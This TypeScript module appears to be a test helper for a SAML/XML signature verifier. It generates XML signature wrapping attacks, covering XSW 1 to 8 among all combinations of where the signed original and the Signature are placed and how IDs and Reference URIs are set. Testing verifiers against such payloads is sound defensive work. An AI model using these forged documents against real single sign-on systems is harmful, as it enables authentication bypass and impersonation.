/**
 * Attacks on signed documents, made from a good one: the signature stays valid for one part, while a careless reader reads
 * another part (XML signature wrapping). A good reader refuses all of them.
 */
import { build } from '../xml/build.ts'
import { canonicalize } from '../xml/canonical.ts'
import { listElements, type XmlElement, type XmlNode } from '../xml/tree.ts'

export interface Attack {
  readonly name: string
  readonly xml: string
}

const isSignature = (node: XmlNode): node is XmlElement =>
  typeof node !== 'string' && node.local === 'Signature'

const withChildren = (element: XmlElement, children: readonly XmlNode[]): XmlElement => ({
  ...element,
  children,
})

function setAttribute(element: XmlElement, local: string, value: string | undefined): XmlElement {
  const others = element.attributes.filter((one) => one.local !== local)
  const own = value === undefined ? [] : [{ prefix: '', local, namespace: '', value }]
  return { ...element, attributes: [...others, ...own] }
}

/** The same element with other words in it. */
export function forge(element: XmlElement): XmlElement {
  return withChildren(
    element,
    element.children
      .filter((child) => !isSignature(child))
      .map((child) => (typeof child === 'string' ? `evil-${child}` : forge(child))),
  )
}

/** Where the document that was really signed is put. */
const originalPlaces = ['object', 'extensions', 'first', 'last', 'in signature', 'around'] as const
/** Where the signature is put. */
const signaturePlaces = ['child', 'extensions', 'original', 'issuer'] as const
const forgedIds = ['another', 'same', 'none', 'empty'] as const
const references = ['original', 'forged', 'document', 'hash'] as const

type Places = {
  readonly original: (typeof originalPlaces)[number]
  readonly signature: (typeof signaturePlaces)[number]
  readonly id: (typeof forgedIds)[number]
  readonly reference: (typeof references)[number]
}

/** All combinations of the places; XSW 1 to 8 are among them. */
export function listWrappings(signed: XmlElement): Attack[] {
  const attacks: Attack[] = []
  for (const original of originalPlaces)
    for (const signature of signaturePlaces)
      for (const id of forgedIds)
        for (const reference of references) {
          const places = { original, signature, id, reference }
          const name = Object.values(places).join(', ')
          attacks.push({ name, xml: canonicalize(wrap(signed, places)) })
        }
  return attacks
}

function wrap(signed: XmlElement, places: Places): XmlElement {
  const found = listElements(signed).find(isSignature)
  if (found === undefined) throw new Error('a signed document is needed')
  const id = signed.attributes.find(({ local }) => local === 'ID')?.value ?? ''
  const forgedId = { another: '_evil', same: id, none: undefined, empty: '' }[places.id]
  const uri = { original: `#${id}`, forged: `#${forgedId ?? ''}`, document: '', hash: '#' }
  const signature = setReference(found, uri[places.reference])
  const bare = withChildren(
    signed,
    signed.children.filter((child) => !isSignature(child)),
  )
  const original =
    places.signature === 'original' ? withChildren(bare, [...bare.children, signature]) : bare
  return place(setAttribute(forge(signed), 'ID', forgedId), { original, signature, places })
}

function setReference(element: XmlElement, uri: string): XmlElement {
  const children = element.children.map((child) =>
    typeof child === 'string' ? child : setReference(child, uri),
  )
  const changed = withChildren(element, children)
  return element.local === 'Reference' ? setAttribute(changed, 'URI', uri) : changed
}

function place(
  forged: XmlElement,
  parts: {
    readonly original: XmlElement
    readonly signature: XmlElement
    readonly places: Places
  },
): XmlElement {
  const { original, places } = parts
  const inside = {
    object: [build('ds:Object', {}, [original])],
    'in signature': [original],
  }
  const extra = places.original in inside ? inside[places.original as keyof typeof inside] : []
  const signature = withChildren(parts.signature, [...parts.signature.children, ...extra])
  const [issuer, ...rest] = forged.children
  const signed = {
    child: [issuer ?? '', signature, ...rest],
    extensions: [issuer ?? '', build('samlp:Extensions', {}, [signature]), ...rest],
    original: forged.children,
    issuer: [
      typeof issuer === 'object' ? withChildren(issuer, [...issuer.children, signature]) : '',
      ...rest,
    ],
  }[places.signature]
  if (places.original === 'extensions') {
    return withChildren(forged, [...signed, build('samlp:Extensions', {}, [original])])
  }
  if (places.original === 'first') return withChildren(forged, [original, ...signed])
  if (places.original === 'last') return withChildren(forged, [...signed, original])
  if (places.original === 'around') {
    return withChildren(original, [withChildren(forged, signed), ...original.children])
  }
  return withChildren(forged, signed)
}
